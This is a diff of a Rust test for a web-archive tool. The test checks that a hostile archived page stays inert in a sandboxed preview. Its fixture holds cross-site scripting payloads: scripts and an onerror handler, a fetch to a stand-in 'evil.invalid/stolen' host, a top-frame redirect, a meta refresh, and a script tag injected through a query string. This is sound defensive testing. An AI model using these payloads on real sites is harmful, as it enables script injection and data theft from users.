@@ -1,18 +1,20 @@
 //! An archived page that tries to run: its title stays text, its preview runs and loads nothing; and the console of a
 //! directory in which no crawl runs.
 
+use std::time::Instant;
+
 use super::{Open, chromium, click};
-use crate::site::{Crawl, RUSH};
+use crate::site::{Crawl, PATIENCE, RUSH};
 use crate::warc::server::{Answer, serve};
 use serde_json::{Value, json};
 
 const EVIL: &str = "<!doctype html><title><script>document.body.dataset.ran = 1</script> &amp; a title</title>\
-    <body><h1>Evil</h1><script>document.body.dataset.ran = 1; fetch('http://127.0.0.1:9/stolen');\
-    parent.document.title = 'owned'; top.location = 'http://127.0.0.1:9/gone'</script>\
-    <img src='http://127.0.0.1:9/p.png' onerror='document.body.dataset.ran = 1'>\
-    <meta http-equiv='refresh' content='0; url=http://127.0.0.1:9/refresh'>\
-    <iframe src='http://127.0.0.1:9/frame'></iframe><link rel=stylesheet href='http://127.0.0.1:9/s.css'>\
-    <style>body { background: url(http://127.0.0.1:9/b.png) }</style><a href='/other' autofocus>link</a>";
+    <body><h1>Evil</h1><script>document.body.dataset.ran = 1; fetch('http://evil.invalid/stolen');\
+    parent.document.title = 'owned'; top.location = 'http://evil.invalid/gone'</script>\
+    <img src='http://evil.invalid/p.png' onerror='document.body.dataset.ran = 1'>\
+    <meta http-equiv='refresh' content='0; url=http://evil.invalid/refresh'>\
+    <iframe src='http://evil.invalid/frame'></iframe><link rel=stylesheet href='http://evil.invalid/s.css'>\
+    <style>body { background: url(http://evil.invalid/b.png) }</style><a href='/other' autofocus>link</a>";
 
 /// The document of a frame, as it is after its scripts, if they ran.
 fn document(browser: &mut chromium::Browser, session: &str) -> Option<String> {
@@ -30,7 +32,7 @@ fn a_hostile_page_stays_text_and_its_preview_runs_nothing() {
         vec![("/evil?q=<script>alert(1)</script>".to_owned(), Answer::html(EVIL)), ("/typed".to_owned(), typed)];
     let escaped = ("/evil?q=%3Cscript%3Ealert(1)%3C/script%3E".to_owned(), Answer::html(EVIL));
     let port = serve(answers.into_iter().chain([escaped]).collect());
-    let scope = "[scope]\nmode = \"host\"\n[network]\nallow = [\"127.0.0.0/8\"]\n";
+    let scope = "[scope]\nmode = \"host\"\nrequisites = \"scope\"\n[network]\nallow = [\"127.0.0.0/8\"]\n";
     let crawl = Crawl::new(&format!("http://127.0.0.1:{port}/"), &format!("[politeness]\n{RUSH}{scope}"));
     crawl.run(&[]).expect(0, &[]);
     let evil = crawl.stored().into_keys().find(|url| url.contains("/evil")).unwrap();
@@ -49,7 +51,9 @@ fn a_hostile_page_stays_text_and_its_preview_runs_nothing() {
     assert_eq!(browser.value("document.querySelector('iframe').getAttribute('sandbox')"), "");
 
     // the frame has a session of its own once it is there
+    let start = Instant::now();
     let html = loop {
+        assert!(start.elapsed() < PATIENCE, "no frame: {:?}", browser.heard);
         browser.value("0");
         let frames = browser.heard.frames.clone();
         let found = frames.iter().find_map(|frame| document(&mut browser, frame)).filter(|html| html.contains("Evil"));
